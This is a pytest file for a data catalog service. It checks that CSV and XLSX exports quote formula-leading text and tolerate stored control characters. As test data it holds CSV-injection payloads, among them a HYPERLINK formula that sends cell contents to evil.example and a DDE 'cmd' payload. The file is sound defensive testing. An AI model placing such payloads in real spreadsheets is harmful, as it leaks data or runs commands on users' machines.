"""Every CSV and XLSX the service writes is safe to open in a spreadsheet, whatever is stored.

OWASP CSV injection: a text cell starting with = + - @ (or tab / CR) is run as a formula by Excel
and WPS, so it goes out with a leading quote. XLSX cannot hold C0 control characters at all, so a
stored one must not stop the export for everyone.
"""

import csv
import io
import re
from datetime import date, timedelta
from typing import Any

import httpx
import polars as pl
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from sqlalchemy import update

from catalog.datasets.models import Dataset
from catalog.exports import FORMULA_STARTS, restore_cell, safe_cell, safe_text_columns
from support.catalog_data import item
from support.database import ON_POSTGRES
from support.identities import Identities
from support.workflow import DECLARATION

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
FORMULA_TITLES = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "'=already quoted", "''+twice"]
# PostgreSQL text cannot hold U+0000; SQLite can, so it is tried there too.
CONTROL_TITLE = ("\x00" if not ON_POSTGRES else "") + "年度\x01统计\x08报表\x1f"


def dataset(code: str, title: str, **extra: Any) -> dict[str, Any]:
    return {
        "code": code,
        "title": title,
        "description": "导出安全测试",
        "owner_department_code": "stats",
        "category": "departmental",
        "share_type": "unconditional",
        "open_type": "open",
        "sensitivity": "L1",
        "update_cycle": "monthly",
        "publication_lag_days": 20,
        "aggregated": True,
        "status": "published",
        "items": [item(f"{code}-1", "指标", unit="亿元")],
        **extra,
    }


@pytest.fixture
async def admin(admin_client: httpx.AsyncClient) -> httpx.AsyncClient:
    created = await admin_client.post(
        "/v1/departments", json={"code": "stats", "name": "区统计局", "kind": "bureau"}
    )
    assert created.status_code == 201, created.text
    return admin_client


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- the one function


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("统计", "统计"),
        ("", ""),
    ],
)
def test_text_cells_a_spreadsheet_would_run_are_quoted_and_restored(
    stored: str, written: str
) -> None:
    assert safe_cell(stored) == written
    assert restore_cell(written) == stored


@pytest.mark.parametrize("number", [-5, -2.5, 0, 7])
def test_numbers_are_not_text_and_stay_numbers(number: float) -> None:
    assert safe_cell(number) == number


def test_text_columns_of_a_frame_are_quoted_and_numbers_are_left_alone() -> None:
    frame = pl.LazyFrame(
        {"name": ["=cmd|' /C calc'!A0", "'=x", "居民", None], "amount": [-5, 3, 0, None]}
    )
    out = safe_text_columns(frame).collect()
    assert out["name"].to_list() == ["'=cmd|' /C calc'!A0", "''=x", "居民", None]
    assert out["amount"].to_list() == [-5, 3, 0, None]
    assert out.schema == frame.collect_schema()
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


# ---------------------------------------------------------------- catalog sheets


async def test_formula_titles_go_out_quoted_and_come_back_identical(
    admin: httpx.AsyncClient,
) -> None:
    codes = []
    for n, title in enumerate(FORMULA_TITLES):
        code = f"TJ-F{n}"
        created = await admin.post("/v1/datasets", json=dataset(code, title))
        assert created.status_code == 201, created.text
        codes.append(code)

    exported = await admin.get("/v1/catalog/export", params={"format": "csv"})
    assert exported.status_code == 200
    header, *body = csv_rows(exported.content)
    title_at = header.index("资源名称")
    written = {row[0]: row[title_at] for row in body}
    for code, title in zip(codes, FORMULA_TITLES, strict=True):
        assert written[code] == safe_cell(title), code
        assert not written[code].startswith(("=", "+", "-", "@")), code

    xlsx = await admin.get("/v1/catalog/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = {row[0].value: row[title_at] for row in sheet.iter_rows(min_row=2)}
    for code, title in zip(codes, FORMULA_TITLES, strict=True):
        assert cells[code].data_type == "s", f"{code} would be evaluated as a formula"
        assert cells[code].value == safe_cell(title), code

    for name, content in (("export.csv", exported.content), ("export.xlsx", xlsx.content)):
        reimported = await admin.post(
            "/v1/catalog/import", files={"file": (name, content, "application/octet-stream")}
        )
        assert reimported.status_code == 200, reimported.text
        assert reimported.json()["created"] == []
        assert reimported.json()["updated"] == {}, name
        assert sorted(reimported.json()["unchanged"]) == codes
    for code, title in zip(codes, FORMULA_TITLES, strict=True):
        assert (await admin.get(f"/v1/datasets/{code}")).json()["title"] == title


async def test_a_stored_control_character_breaks_no_catalog_export(
    admin: httpx.AsyncClient, app: FastAPI
) -> None:
    for code in ("TJ-OK", "TJ-BAD"):
        created = await admin.post("/v1/datasets", json=dataset(code, "年度统计报表"))
        assert created.status_code == 201, created.text
    # Written below the API, as data stored before input validation refused such characters.
    async with app.state.session_factory() as session:
        await session.execute(
            update(Dataset).where(Dataset.code == "TJ-BAD").values(title=CONTROL_TITLE)
        )
        await session.commit()

    xlsx = await admin.get("/v1/catalog/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    titles: dict[Any, Any] = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}
    assert titles["TJ-OK"] == "年度统计报表"
    assert titles["TJ-BAD"] == re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", CONTROL_TITLE)
    assert "\ufffd统计\ufffd报表\ufffd" in titles["TJ-BAD"]

    exported = await admin.get("/v1/catalog/export", params={"format": "csv"})
    assert exported.status_code == 200
    assert {row[0]: row[1] for row in csv_rows(exported.content)[1:]}["TJ-BAD"] == CONTROL_TITLE

    detail = await admin.get("/v1/datasets/TJ-BAD")
    assert detail.status_code == 200
    assert detail.json()["title"] == CONTROL_TITLE
    assert (await admin.get("/v1/datasets")).status_code == 200
    assert (await admin.get("/v1/catalog/dcat")).status_code == 200


# ---------------------------------------------------------------- coordination


async def test_readiness_and_agenda_csv_quote_formula_text(
    admin: httpx.AsyncClient, client: httpx.AsyncClient, identities: Identities
) -> None:
    evil = await admin.post(
        "/v1/departments", json={"code": "evil", "name": "@SUM(1,2)", "kind": "bureau"}
    )
    assert evil.status_code == 201, evil.text
    requester = await identities.headers(
        "drc-requester", department="drc", department_kind="bureau", roles=("requester",)
    )
    await client.post("/v1/scenarios", json={"code": "econ", "name": "经济"}, headers=requester)
    created = await client.post(
        "/v1/requests",
        json={
            "scenario_code": "econ",
            "title": "需求",
            "purpose": "经济运行分析",
            "usage_start": date.today().isoformat(),
            "usage_end": (date.today() + timedelta(days=90)).isoformat(),
            "lines": [{"need": HYPERLINK, "believed_department_code": "evil"}],
        },
        headers=requester,
    )
    assert created.status_code == 201, created.text
    request_id = created.json()["id"]
    submitted = await client.post(f"/v1/requests/{request_id}/submit", headers=requester)
    assert submitted.status_code == 200, submitted.text

    agenda = await admin.get("/v1/coordination/agenda", params={"format": "csv"})
    assert agenda.status_code == 200, agenda.text
    header, *rows = csv_rows(agenda.content)
    (row,) = rows
    assert row[header.index("department_name")] == "'@SUM(1,2)"
    assert row[header.index("item")] == "'" + HYPERLINK

    board = await client.get(
        f"/v1/requests/{request_id}/readiness", params={"format": "csv"}, headers=requester
    )
    assert board.status_code == 200, board.text
    header, *rows = csv_rows(board.content)
    assert rows[0][header.index("department_name")] == "'@SUM(1,2)"
    assert rows[0][header.index("requested")] == "1"


# ---------------------------------------------------------------- grant data


LEDGER = {
    "code": "TJ-LEDGER",
    "title": "调整台账",
    "description": "正负调整额",
    "owner_department_code": "stats",
    "category": "departmental",
    "share_type": "conditional",
    "share_condition": "仅用于经济运行分析",
    "open_type": "not_open",
    "sensitivity": "L2",
    "update_cycle": "monthly",
    "publication_lag_days": 10,
    "aggregated": False,
    "status": "published",
    "items": [
        item("TZ-BH", "编号", "string", nullable=False, is_key=True),
        item("TZ-SM", "说明", "string"),
        item("TZ-JE", "调整额", "integer", unit="元"),
    ],
}


async def test_downloaded_csv_quotes_formula_text_and_keeps_negative_numbers(
    admin: httpx.AsyncClient, client: httpx.AsyncClient, identities: Identities
) -> None:
    steward = await identities.headers(
        "stats-steward", department="stats", department_kind="bureau", roles=("steward",)
    )
    requester = await identities.headers(
        "drc-requester", department="drc", department_kind="bureau", roles=("requester",)
    )
    created = await client.post("/v1/datasets", json=LEDGER, headers=steward)
    assert created.status_code == 201, created.text
    upload = "TZ-BH,TZ-SM,TZ-JE\r\nA1,=1+1,-5\r\nA2,-负数说明,7\r\nA3,普通,-12\r\n"
    released = await client.post(
        "/v1/datasets/TJ-LEDGER/releases",
        files={"file": ("台账.csv", upload.encode(), "text/csv")},
        data={"period_start": "2026-10-01", "period_end": "2026-10-31"},
        headers=steward,
    )
    assert released.status_code in (200, 201), released.text

    await client.post("/v1/scenarios", json={"code": "econ", "name": "经济"}, headers=requester)
    filed = await client.post(
        "/v1/requests",
        json={
            "scenario_code": "econ",
            "title": "台账需求",
            "purpose": "经济运行分析",
            "usage_start": date.today().isoformat(),
            "usage_end": (date.today() + timedelta(days=90)).isoformat(),
            "lines": [{"dataset_code": "TJ-LEDGER"}],
        },
        headers=requester,
    )
    assert filed.status_code == 201, filed.text
    submitted = await client.post(f"/v1/requests/{filed.json()['id']}/submit", headers=requester)
    line = submitted.json()["lines"][0]
    decided = await client.post(
        f"/v1/lines/{line['id']}/decisions",
        json={"decision": "approve", "declaration": DECLARATION},
        headers=steward,
    )
    assert decided.status_code == 200, decided.text
    grants = (await client.get("/v1/grants", headers=requester)).json()["items"]
    (grant,) = [g for g in grants if g["line_id"] == line["id"]]

    download = await client.get(
        f"/v1/grants/{grant['id']}/data", params={"format": "csv"}, headers=requester
    )
    assert download.status_code == 200, download.text
    rows = {row[0]: row for row in csv_rows(download.content)[1:]}
    assert rows["A1"][1:] == ["'=1+1", "-5"]
    assert rows["A2"][1:] == ["'-负数说明", "7"]
    assert rows["A3"][1:] == ["普通", "-12"]

    parquet = await client.get(
        f"/v1/grants/{grant['id']}/data", params={"format": "parquet"}, headers=requester
    )
    frame = pl.read_parquet(io.BytesIO(parquet.content))
    assert frame["TZ-SM"].to_list()[0] == "=1+1", "only spreadsheet formats are quoted"
